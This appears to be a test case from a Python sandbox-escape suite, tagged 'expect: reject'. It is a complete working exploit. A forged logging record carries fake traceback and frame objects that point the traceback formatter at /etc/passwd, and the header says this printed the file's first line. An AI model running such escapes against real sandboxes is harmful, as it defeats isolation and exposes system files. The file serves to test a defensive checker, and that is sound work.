# expect: reject method
# line: 59
# verified: plain python3 3.11 in a temp dir: /etc/passwd's first line printed by the traceback formatter
#
# Family R (forged log record, see escape_r8_R_01): the record parameter rebound inside emit (record = Rec()) before super().emit(record).
# Goal reached: /etc/passwd read.

import operator

import logging
import sys


class Code:
    def __init__(self):
        self.co_filename = "/etc/passwd"
        self.co_name = "pwned"


class Frame:
    def __getattr__(self, name):
        if name.endswith("code"):
            return Code()
        if name.endswith("globals"):
            return {}
        return None


class Tb:
    def __getattr__(self, name):
        if name.endswith("frame"):
            return Frame()
        if name.endswith("lasti"):
            return -1
        if name.endswith("lineno"):
            return 1
        return None


class Rec:
    def __init__(self):
        self.name = "x"
        self.levelname = "WARNING"
        self.levelno = 30
        self.msg = "hello"

    def getMessage(self):
        return self.msg

    def __getattr__(self, name):
        if name.startswith("exc") and not name.endswith("text"):
            return (ValueError, ValueError("v"), Tb())
        return None


class T(logging.StreamHandler):
    def emit(self, record):
        record = Rec()
        super().emit(record)
logging.getLogger("a").addHandler(T(sys.stdout))
logging.getLogger("a").warning("x")
